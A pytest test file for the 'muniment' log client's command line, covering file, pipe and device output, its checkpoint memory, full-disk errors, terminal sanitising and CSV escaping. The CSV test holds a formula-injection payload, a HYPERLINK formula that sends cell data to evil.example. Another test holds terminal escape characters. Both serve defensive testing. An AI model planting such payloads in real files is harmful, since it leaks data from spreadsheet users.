"""What the commands write: results to files, checkpoints to the memory of the user, and text to a terminal."""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import muniment.client._sync
from muniment import Receipt
from tests.client.cli_runner import Cli
from tests.client.fake_log import FakeLog, instead, problem
from tests.client.served import served
from tests.client.test_bundle_cli import bundle
from tests.live import PATIENCE


@pytest.fixture
def log() -> FakeLog:
    made = FakeLog()
    made.add_events([{"actor": "alice", "n": 1}, {"actor": "bob", "ok": True}])
    made.publish()
    return made


@pytest.fixture(autouse=True)
def here(log: FakeLog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder with a policy, beside a server; both in the environment."""
    (tmp_path / "policy").write_text(str(log.policy))
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("MUNIMENT_POLICY", "policy")
    monkeypatch.setattr(muniment.client._sync.time, "sleep", lambda _: None)
    with served(log) as url:
        monkeypatch.setenv("MUNIMENT_URL", url)
        yield tmp_path


def state_files() -> list[str]:
    return [name for _, _, names in os.walk(os.environ["XDG_STATE_HOME"]) for name in names]


# --- the memory -------------------------------------------------------------------------------------------------------


@pytest.fixture(params=["no folder", "read-only", "no home"])
def unusable(request: pytest.FixtureRequest, here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A memory that cannot be used."""
    if request.param == "no folder":
        monkeypatch.setenv("XDG_STATE_HOME", str(here / "policy"))  # a file
    elif request.param == "no home":
        monkeypatch.delenv("XDG_STATE_HOME")
        monkeypatch.setattr(Path, "home", _no_home)
    else:
        monkeypatch.setattr("muniment.state.replace_file", _read_only)


def _no_home() -> Path:
    raise RuntimeError("Could not determine home directory.")


def _read_only(*_: Any) -> None:
    raise OSError(30, "Read-only file system")


@pytest.mark.usefixtures("unusable")
def test_an_append_without_a_memory_is_told_its_receipt(cli: Cli, log: FakeLog, here: Path) -> None:
    done = cli("append", "a=b", "--receipt", "r.json")
    assert (done.code, log.size) == (0, 4)
    assert Receipt.parse((here / "r.json").read_bytes()).verify(log.policy).opened == {"a": "b"}
    assert done.err.count("Checkpoints are not remembered this time") == 1
    for words in (["get", "1"], ["receipt", "1"], ["checkpoint"], ["log"], ["consistency"], ["export"]):
        done = cli(*words)
        assert (done.code, done.err.count("not remembered")) == (0, 1), words


def test_what_is_remembered_counts_also_where_nothing_can_be_written(
    cli: Cli, log: FakeLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    branch = log.fork()
    log.add_events([{"mine": 1}])
    branch.add_events([{"theirs": 1}] * 2)
    log.publish()
    branch.publish()
    assert cli("checkpoint").code == 0
    monkeypatch.setattr("muniment.state.replace_file", _read_only)
    with served(branch) as url:
        assert cli("checkpoint", "--url", url).code == 1
        assert cli("checkpoint", "--url", url, "--no-state").code == 0, "as it was asked for"


def test_no_state(cli: Cli, log: FakeLog) -> None:
    for words in (["append", "a=b"], ["get", "1"], ["checkpoint"]):
        done = cli(*words, "--no-state")
        assert (done.code, done.err) == (0, "")
    assert "--no-state" in cli("append", "a=b", "--no-state").out, "the suggested command has it too"
    assert not state_files()
    assert cli("consistency", "--no-state", "--json").error["code"] == "usage"
    Path("saved").write_text(log.note(2))
    assert cli("consistency", "--no-state", "--since", "saved").code == 0


def test_a_damaged_memory_is_found_before_anything_is_logged(cli: Cli, log: FakeLog, here: Path) -> None:
    assert cli("checkpoint").code == 0
    file = Path(os.environ["XDG_STATE_HOME"]) / "muniment" / "checkpoints.json"
    (here / "rows.jsonl").write_text('{"a":1}\n')
    whole = file.read_text()
    for damaged in ("{", whole.replace(log.origin + " ", log.origin + " A", 1).replace("— ", "— x", 1)):
        file.write_text(damaged)
        for words in (["append", "a=b"], ["import", "rows.jsonl"], ["import", "-"]):
            done = cli(*words, stdin=b'{"a":1}\n')
            assert (done.code, log.size) == (2, 3), done


def test_what_fails_after_an_append_does_not_take_its_receipt(cli: Cli, log: FakeLog, here: Path) -> None:
    """The entry is logged and proved by itself; only the comparison with what was seen before fails."""
    assert cli("checkpoint").code == 0
    log.add_events([{"other": 1}])
    log.tamper = instead("/proof/consistency", lambda: problem(500, "internal"))
    done = cli("append", "a=b", "--receipt", "r.json", "--json")
    assert (done.code, done.error["code"]) == (4, "internal")
    assert "logged all the same: entry 4" in done.error["hint"]
    kept = Receipt.parse((here / "r.json").read_bytes())
    assert kept.verify(log.policy).opened == {"a": "b"}
    assert done.error["receipt"] == kept.to_json()


def test_a_receipt_that_cannot_be_written_is_printed(cli: Cli, log: FakeLog) -> None:
    done = cli("append", "a=b", "--receipt", "missing/r.json")
    assert (done.code, log.size) == (2, 4)
    assert Receipt.parse(done.out.encode()).index == 3
    assert "entry 3 of example.com/log is logged" in done.err.lower()


# --- files ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("words", [["receipt", "1"], ["checkpoint"], ["export", "--format", "csv", "--overwrite"]])
def test_a_file_is_replaced_where_links_lead_and_keeps_its_mode(cli: Cli, here: Path, words: list[str]) -> None:
    (here / "deep").mkdir()
    file = here / "deep" / "out"
    file.write_text("old")
    file.chmod(0o640)
    (here / "link").symlink_to("deep/out")
    before = file.stat().st_ino
    assert cli(*words, "-o", "link").code == 0
    assert (here / "link").is_symlink()
    assert file.read_text() not in ("", "old")
    assert (stat.S_IMODE(file.stat().st_mode), file.stat().st_ino != before) == (0o640, True)
    assert [path.name for path in (here / "deep").iterdir()] == ["out"]
    (here / "new").symlink_to("deep/new")
    assert cli(*words, "-o", "new").code == 0
    assert (here / "deep" / "new").read_text() == file.read_text()


@pytest.mark.parametrize("words", [["receipt", "1"], ["checkpoint"], ["export"]])
def test_a_pipe_is_written_to_and_stays(cli: Cli, here: Path, words: list[str]) -> None:
    """So does a device: all users of the machine would lose one that is replaced by a file."""
    os.mkfifo(here / "pipe")
    (here / "link").symlink_to("pipe")
    got: list[str] = []
    for name in ("pipe", "link"):
        reader = threading.Thread(target=lambda: got.append((here / "pipe").read_text()))
        reader.start()
        assert cli(*words, "-o", name).code == 0
        reader.join(PATIENCE)
    assert got[0] == got[1] != ""
    assert stat.S_ISFIFO((here / "pipe").stat().st_mode)
    assert not list(here.glob(".*part"))


@pytest.mark.skipif(os.geteuid() != 0, reason="only root may make a device")
def test_a_device_is_written_to_and_stays(cli: Cli, here: Path) -> None:
    os.mknod(here / "null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
    os.mknod(here / "full", stat.S_IFCHR | 0o666, os.makedev(1, 7))
    assert cli("checkpoint", "-o", "null").code == 0
    done = cli("checkpoint", "-o", "full", "--json")
    assert (done.code, done.error["code"]) == (2, "unwritable")
    assert all(stat.S_ISCHR((here / name).stat().st_mode) for name in ("null", "full"))


def test_what_cannot_be_written(cli: Cli, here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (here / "circle").symlink_to("circle")
    for name in ("missing/file", "circle", "policy/file"):
        done = cli("checkpoint", "-o", name, "--json")
        assert (done.code, done.error["code"]) == (2, "unwritable"), name
    (here / "out.part").write_text("mine")
    assert cli("checkpoint", "-o", "out").code == 0
    assert (here / "out.part").read_text() == "mine", "no file of another name is touched"
    (here / "out").write_text("old")
    monkeypatch.setattr(Path, "replace", _read_only)
    assert cli("checkpoint", "-o", "out").code == 2
    assert ((here / "out").read_text(), list(here.glob(".*part"))) == ("old", [])


def test_a_folder_that_takes_no_new_files(cli: Cli, here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    opened = Path.open

    def refuse(path: Path, mode: str = "r", **rest: Any) -> Any:
        if "x" in mode:
            raise PermissionError(13, "Permission denied")
        return opened(path, mode, **rest)

    (here / "out").write_text("old")
    monkeypatch.setattr(Path, "open", refuse)
    assert cli("checkpoint", "-o", "out").code == 0
    assert (here / "out").read_text() != "old"
    assert cli("checkpoint", "-o", "new").code == 2


def test_a_fuller_receipt_is_not_overwritten(cli: Cli, log: FakeLog, here: Path) -> None:
    assert cli("receipt", "1", "-o", "r.json").code == 0
    full = (here / "r.json").read_bytes()
    log.readable = False
    for words in (["receipt", "1"], ["receipt", "1", "--tlog-proof"]):
        done = cli(*words, "-o", "r.json", "--json")
        assert (done.code, done.error["code"]) == (2, "fuller_receipt")
        assert (here / "r.json").read_bytes() == full
    assert cli("receipt", "2", "-o", "r.json").code == 0, "another entry's is the caller's to overwrite"
    log.readable = True
    assert cli("receipt", "2", "-o", "r.json").code == 0
    assert Receipt.parse((here / "r.json").read_bytes()).disclosures


def test_text_of_another_system_is_not_a_receipt_that_fails(cli: Cli, log: FakeLog, here: Path) -> None:
    receipt, policy = str(log.receipt(1, 2)), str(log.policy)
    (here / "good").write_text(receipt)
    rewritten = {
        "bom": b"\xef\xbb\xbf" + receipt.encode(),
        "utf-16": receipt.encode("utf-16"),
        "crlf": log.receipt(1, 2).to_tlog_proof().replace("\n", "\r\n").encode(),
    }
    for name, data in rewritten.items():
        (here / name).write_bytes(data)
        for words in (["verify", name], ["consistency", "--since", name]):
            done = cli(*words, "--json")
            assert (done.code, done.error["code"]) == (2, "not_plain_text"), (words, done)
    (here / "windows").write_bytes(policy.replace("\n", "\r\n").encode())
    done = cli("verify", "good", "--policy", "windows")
    assert (done.code, "cannot be read: it has Windows line ends" in done.err) == (2, True)
    (here / "json").write_bytes(json.dumps(json.loads(receipt), indent=1).replace("\n", "\r\n").encode())
    assert cli("verify", "json").code == 0, "JSON may have them"


# --- text -------------------------------------------------------------------------------------------------------------

ODD = "\x1b[2J\x9b\u202e\x7f\U000e0041"


def test_nothing_that_a_terminal_obeys(cli: Cli, log: FakeLog, monkeypatch: pytest.MonkeyPatch) -> None:
    log.add_events([{ODD: ODD, "ü": "ü"}])
    log.publish()
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    for words in (["get", "3"], ["get", "3", "--json"], ["receipt", "3"], ["export"], ["export", "--format", "csv"]):
        done = cli(*words)
        assert done.code == 0
        assert all(line.isprintable() for line in done.out.split("\n")), words
    assert cli("get", "3", "--json").json["event"] == {ODD: ODD, "ü": "ü"}, "the same value, spelled otherwise"
    assert "ü" in cli("get", "3", "--json").out
    assert json.loads(cli("export").out.splitlines()[3])["event"] == {ODD: ODD, "ü": "ü"}
    done = cli("append", '{"a":"\u202e"}', "--json")
    assert all(line.isprintable() for line in done.out.split("\n"))


def test_a_full_disk_is_no_bug(log: FakeLog) -> None:
    with Path("/dev/full").open("w") as full:
        command = [sys.executable, "-m", "muniment.cli", "checkpoint"]
        done = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, text=True, timeout=PATIENCE, check=False)
    assert done.returncode == 2
    assert done.stderr.startswith("muniment: cannot write: No space left on device")
    assert "bug" not in done.stderr
    assert "Exception" not in done.stderr


def full_disk(*words: str, closed: bool = False) -> subprocess.CompletedProcess[str]:
    """The command with a standard output that takes nothing."""
    command = [sys.executable, "-m", "muniment.cli", *words]
    if closed:
        command = ["sh", "-c", 'exec 1>&-; exec "$@"', "sh", *command]
    with Path("/dev/full").open("w") as full:
        return subprocess.run(command, stdout=full, stderr=subprocess.PIPE, text=True, timeout=PATIENCE, check=False)


@pytest.mark.parametrize("closed", [False, True])
@pytest.mark.parametrize(
    "words",
    [
        ["disclose", "big", "--only", ""],
        ["disclose", "one", "--only", ""],
        ["verify", "big", "--show"],
        ["verify", "one", "--plain"],
        ["export", "--format", "receipts"],
    ],
    ids=" ".join,
)
def test_output_that_cannot_be_written_is_not_taken_for_a_file_that_cannot_be_read(
    log: FakeLog, words: list[str], closed: bool
) -> None:
    Path("big").write_bytes(bundle(log, [*range(log.size)]))
    Path("one").write_text(str(log.receipt(1)))
    done = full_disk(*words, closed=closed)
    said = "standard output is closed" if closed else "No space left on device"
    assert (done.returncode, done.stderr.splitlines()[0]) == (2, f"muniment: cannot write: {said}")
    assert len(done.stderr.splitlines()) == 2, "one message and one hint"


def test_what_is_logged_is_said_where_nothing_can_be_printed(log: FakeLog) -> None:
    size = log.size
    for words in (["append", "a=1"], ["append", "a=2", "--receipt", "/dev/full"]):
        done = full_disk(*words)
        assert (done.returncode, "run the command again" in done.stderr) == (2, False), done
        assert f"Entry {size} of {log.origin} is logged" in done.stderr
        size += 1
    assert (full_disk("append", "a=3", closed=True).returncode, log.size) == (2, size), "nothing is done unseen"


def test_a_file_that_cannot_be_read_to_its_end(cli: Cli, log: FakeLog) -> None:
    for words in (["verify"], ["disclose", "--only", ""]):
        done = cli(*words, "/proc/self/mem", "--json")
        assert (done.code, done.error["code"]) == (2, "unreadable")
        assert done.error["message"] == "cannot read /proc/self/mem: Input/output error"


def test_evidence_and_bundles_are_not_written_over(cli: Cli, log: FakeLog) -> None:
    """A receipt goes over an older one of its entry, and a checkpoint over an older one; over nothing else."""
    whole = bundle(log, [1])
    for name, data in {"bundle": whole, "evidence": b'{"typ":"muniment/evidence@v1"}'}.items():
        Path(name).write_bytes(data)
        for words in (("receipt", 1), ("checkpoint",)):
            done = cli(*words, "-o", name)
            assert (done.code, "file_exists" in cli(*words, "-o", name, "--json").err) == (2, True), (name, words)
        assert Path(name).read_bytes() == data
    assert [cli("receipt", 1, "-o", "r").code for _ in "ab"] == [0, 0]
    assert cli("checkpoint", "-o", "r").code == 2
    assert [cli("checkpoint", "-o", "c").code for _ in "ab"] == [0, 0]
    Path("first").write_text(log.note(1))
    Path("second").write_text(log.note(2))
    assert "first holds something already" in cli("evidence", "first", "second", "-o", "first").err


def test_a_bundle_whose_first_line_is_damaged_is_not_proved(cli: Cli, log: FakeLog) -> None:
    for old, new in ((b"receipts@v1", b"receiptz@v1"), (b'"typ"', b'"tzp"')):
        done = cli("verify", "-", stdin=bundle(log, [0, 1]).replace(old, new, 1))
        assert (done.code, "NOT PROVED" in done.out) == (1, True)


def test_a_range_without_entries_is_refused(cli: Cli) -> None:
    for form in ("jsonl", "csv", "receipts"):
        for ends in (("--start", 2, "--stop", 2), ("--start", 9, "--stop", 2), ("--stop", 0)):
            done = cli("export", "--format", form, *ends)
            assert (done.code, "--start is below --stop" in done.err) == (2, True)


def test_rows_are_told_from_receipts(cli: Cli, log: FakeLog) -> None:
    log.add_events([{"a": 1}, {"a": 2}])
    log.publish()
    assert cli("export", "-o", "rows.jsonl").code == 0
    assert cli("export", "-o", "rows.csv").code == 0
    rows = Path("rows.jsonl").read_bytes().splitlines()
    Path("row.jsonl").write_bytes(rows[1])
    Path("rows.json").write_text(cli("get", "0..3", "--json").out)
    Path("row.json").write_text(cli("get", "1", "--json").out)
    Path("answer.json").write_bytes(b'{"hits":[' + rows[1].replace(b": ", b":") + b"]}")
    for name in ("rows.jsonl", "row.jsonl", "rows.csv", "rows.json", "row.json", "answer.json"):
        for words in (["verify"], ["disclose", "--only", ""]):
            done = cli(*words, name, "--json")
            assert (done.code, done.error["code"]) == (2, "rows"), (words, name)
            assert "they carry no proof" in done.error["message"]
            assert "muniment export --format receipts -o FILE" in done.error["hint"]
            assert "muniment search QUERY --receipts -o FILE" in done.error["hint"]


def test_the_members_of_a_receipt_stand_in_any_order(cli: Cli, log: FakeLog) -> None:
    value = log.receipt(1).to_json()
    for first in ({"index": 1}, {"index": 1, "leaf_hash": "a member to ignore"}):
        Path("turned").write_text(json.dumps(first | value))
        assert cli("verify", "turned").code == 0


@pytest.mark.parametrize(
    "leaf", [b"index,leaf_hash\r\n1,2\r\n", b'{"index": 1, "leaf_hash": "2"}\n{}', b"\xef\xbb\xbftext", b"a\r\nb"]
)
def test_a_leaf_may_be_any_bytes(cli: Cli, leaf: bytes) -> None:
    raw = FakeLog(kind="raw")
    raw.add_raw([leaf])
    Path("raw.policy").write_text(str(raw.policy))
    Path("proof").write_text(raw.receipt(1).to_tlog_proof())
    Path("leaf").write_bytes(leaf)
    assert cli("verify", "proof", "--leaf", "leaf", "--policy", "raw.policy").code == 0


# --- CSV --------------------------------------------------------------------------------------------------------------


def exported(cli: Cli, log: FakeLog, *events: dict[str, Any]) -> list[dict[str, str]]:
    """The events as rows of CSV, as Python's reader reads them: in strict mode, at every kind of line end."""
    log.add_events(list(events))
    log.publish()
    assert cli("export", "-o", "out.csv", "--start", log.size - len(events)).code == 0
    with Path("out.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file, strict=True))


def test_no_cell_starts_a_formula(cli: Cli, log: FakeLog) -> None:
    link = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    events = [
        {"actor": link},
        {"actor": "@SUM(1)", "note": "-1+1", "n": -1.5, "text": "-2e3"},
        {"=cmd": "x", "tab": "\t=1", "wide": "\uff1d1", "plus": "+49 30"},
    ]
    rows = exported(cli, log, *events)
    assert rows[0]["actor"] == f"'{link}"
    assert [rows[1][name] for name in ("actor", "note", "n", "text")] == ["'@SUM(1)", "'-1+1", "-1.5", "-2e3"]
    assert [rows[2][name] for name in ("'=cmd", "tab", "wide", "plus")] == [
        "x",
        "'\t'=1",
        "'\uff1d1",
        "'+49 30",
    ]


def test_a_carriage_return_stays_in_its_cell(cli: Cli, log: FakeLog) -> None:
    events = [{"actor": "x\ry"}, {"actor": "x\r\ny"}, {"actor": "x\ny", "b\rc": "z"}]
    rows = exported(cli, log, *events)
    assert [row["actor"] for row in rows] == ["x\ry", "x\r\ny", "x\ny"]


def test_an_export_can_be_imported_again(cli: Cli, log: FakeLog) -> None:
    actors = ["x\ry", "x\r\ny", "=1;=2", "'=1", "a;\t- b", "-5"]
    exported(cli, log, *({"actor": actor, "=cmd": "@x", "x;y": "z", "": "no name"} for actor in actors))
    before = log.size
    assert cli("import", "out.csv").code == 0
    events = [log.payloads[before + at].event for at in range(len(actors))]
    assert [event["actor"] for event in events] == actors
    assert {(event["=cmd"], event["x;y"], event[""]) for event in events} == {("@x", "z", "no name")}


def test_cells_of_others_are_imported_as_they_are(cli: Cli, log: FakeLog) -> None:
    before = log.size
    Path("theirs.csv").write_text("name,'=cmd\n'=1,x;'=2\n")
    assert cli("import", "theirs.csv").code == 0
    assert log.payloads[before].event == {"name": "'=1", "'=cmd": "x;'=2"}
    Path("twice.csv").write_text("index,leaf_hash,logged_at,=a,'=a\n1,2,3,4,5\n")
    assert "bad_header" in cli("import", "twice.csv", "--json").err, "two columns would be one member"


def test_no_member_takes_a_column_of_ours(cli: Cli, log: FakeLog) -> None:
    events = [
        {"index": 1, "event.index": 2, "event.event.index": 3},
        {"logged_at": "a", "event.logged_at": "b", "own": "c"},
    ]
    rows = exported(cli, log, *events)
    assert [rows[0][name] for name in ("index", "event.index", "event.event.index", "event.event.event.index")] == [
        "3",
        "1",
        "2",
        "3",
    ]
    assert [rows[1][name] for name in ("event.logged_at", "event.event.logged_at", "event.own")] == ["a", "b", "c"]
